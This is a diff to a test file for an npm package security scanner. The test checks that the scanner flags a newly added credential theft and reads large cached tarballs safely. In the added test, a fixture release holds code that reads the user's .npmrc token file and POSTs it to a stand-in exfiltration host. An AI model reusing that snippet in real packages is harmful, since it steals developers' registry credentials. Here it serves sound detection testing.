@@ -1,7 +1,17 @@
+import { randomBytes } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { publish } from 'libnpmpublish';
+import { create } from 'tar';
 import { describe, expect, inject, it } from 'vitest';
 import { DEFAULT_LIMITS } from '../../src/fetch/limits.js';
-import { type DownloadRoom, downloadTarball, downloadWithin } from '../../src/fetch/tarball.js';
+import {
+  cachedTarballSize,
+  type DownloadRoom,
+  downloadTarball,
+  downloadWithin,
+} from '../../src/fetch/tarball.js';
 import type { PackageNode } from '../../src/model.js';
 import type { NpmOptions } from '../../src/npm-config.js';
 import { PackumentStore } from '../../src/registry/packument.js';
@@ -26,12 +36,12 @@ const roomFor = (allow: number): DownloadRoom & { taken: number } => ({
   },
 });
 
-async function nodeOf(npmOptions: NpmOptions, version: string): Promise<PackageNode> {
-  const outcome = await new PackumentStore(npmOptions).get(NAME);
+async function nodeOf(npmOptions: NpmOptions, version: string, name = NAME): Promise<PackageNode> {
+  const outcome = await new PackumentStore(npmOptions).get(name);
   const release = outcome.ok ? outcome.index.releases.get(version) : undefined;
   if (!release?.integrity || !release.tarball) throw new Error('fixture not published');
   return {
-    name: NAME,
+    name,
     version,
     integrity: release.integrity,
     resolved: release.tarball,
@@ -124,4 +134,101 @@ describe('downloads that are refused room in memory', () => {
       await proxy.stop();
     }
   });
+
+  it('a package npm’s cache holds, too big for the room left, is read from there at its turn: diff, bytes verified', async () => {
+    // Two releases of a package with an incompressible megabyte and a half in it, the second adding a token
+    // theft. npm's cache holds both after a first scan; with a budget of half a megabyte the package never fits.
+    const name = 'held-big-payload';
+    const dir = mkdtempSync(join(tmpdir(), 'ocellus-held-'));
+    const payload = randomBytes(1536 * 1024);
+    const tarballs = new Map<string, Buffer>();
+    for (const [version, code] of [
+      ['1.0.0', "module.exports = () => require('./data.bin.json');"],
+      [
+        '1.0.1',
+        `const fs = require('fs'), os = require('os'), path = require('path');
+         const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+         fetch('https://collect.example-exfil.invalid/t', { method: 'POST', body: token });`,
+      ],
+    ] as const) {
+      const root = join(dir, version);
+      mkdirSync(join(root, 'package'), { recursive: true });
+      const manifest = { name, version, main: 'index.js' };
+      writeFileSync(join(root, 'package', 'package.json'), JSON.stringify(manifest));
+      writeFileSync(join(root, 'package', 'index.js'), code);
+      writeFileSync(join(root, 'package', 'data.bin'), payload);
+      await create({ gzip: true, cwd: root, file: join(root, 'out.tgz') }, ['package']);
+      const tarball = readFileSync(join(root, 'out.tgz'));
+      tarballs.set(version, tarball);
+      await publish(manifest, tarball, { registry, defaultTag: 'latest' });
+    }
+    const home = isolatedHome();
+    const npmOptions: NpmOptions = { registry, cache: join(home.cache, '_cacache') };
+    // A worker thread, for the tarballs npm's cache hands over whole to be moved there rather than copied.
+    const scan = (url: string, workers = '0') =>
+      runCli(['scan', `${name}@1.0.1`, '--registry', url, '--format', 'json', '--no-cache'], {
+        home,
+        env: { OCELLUS_IN_FLIGHT_MB: '0.5', OCELLUS_WORKERS: workers },
+      }).then((result) => ({ ...result, report: JSON.parse(result.stdout) as Report }));
+    const judged = (report: Report) => {
+      const pkg = report.packages.find((entry) => entry.name === name);
+      return {
+        incomplete: report.summary.incomplete.filter((entry) => entry.name === name),
+        // The theft is reported as new in 1.0.1: the previous release was read and compared.
+        newTheft: pkg?.findings.some(
+          (finding) =>
+            finding.severity === 'critical' &&
+            /New in 1\.0\.1: .*1\.0\.0 did not have this/.test(finding.message),
+        ),
+      };
+    };
+
+    const first = await scan(registry);
+    expect(judged(first.report)).toEqual({ incomplete: [], newTheft: true });
+    const node = await nodeOf(npmOptions, '1.0.1', name);
+    expect(await cachedTarballSize(node, npmOptions)).toBe(tarballs.get('1.0.1')?.byteLength);
+    // Nothing held, or nothing an integrity can name: no size, and the package is downloaded as any other.
+    const elsewhere = { ...npmOptions, cache: join(isolatedHome().cache, '_cacache') };
+    expect(await cachedTarballSize(node, elsewhere)).toBeUndefined();
+    expect(await cachedTarballSize({ ...node, integrity: 'x' }, npmOptions)).toBeUndefined();
+
+    const proxy = await startFaultProxy(registry, []);
+    try {
+      const again = await scan(proxy.url, '1');
+      expect(judged(again.report)).toEqual({ incomplete: [], newTheft: true });
+      expect(again.report.packages).toEqual(first.report.packages);
+      expect(again.code).toBe(first.code);
+      // Both releases came from npm's cache.
+      expect(proxy.seen.filter((path) => TARBALL.test(path))).toEqual([]);
+
+      // The cache's size only decides when to read: its bytes are still verified. Damaged in place, the cached
+      // 1.0.1 is not analysed; pacote fetches the registry's bytes instead.
+      const damaged = cachedContent(home.cache, tarballs.get('1.0.1') ?? Buffer.alloc(0));
+      writeFileSync(damaged, randomBytes(statSync(damaged).size));
+      const afterDamage = await scan(proxy.url);
+      expect(judged(afterDamage.report)).toEqual({ incomplete: [], newTheft: true });
+      expect(proxy.seen.filter((path) => path.endsWith(`${name}-1.0.1.tgz`))).toHaveLength(1);
+    } finally {
+      await proxy.stop();
+    }
+  });
 });
+
+/** The file of npm's cache holding these bytes (found by its content: the layout is cacache's own). */
+function cachedContent(npmCache: string, bytes: Buffer): string {
+  const walk = (folder: string): string | undefined => {
+    for (const entry of readdirSync(folder, { withFileTypes: true })) {
+      const path = join(folder, entry.name);
+      const found = entry.isDirectory()
+        ? walk(path)
+        : statSync(path).size === bytes.byteLength && readFileSync(path).equals(bytes)
+          ? path
+          : undefined;
+      if (found) return found;
+    }
+    return undefined;
+  };
+  const found = walk(join(npmCache, '_cacache', 'content-v2'));
+  if (!found) throw new Error('the tarball is not in npm’s cache');
+  return found;
+}
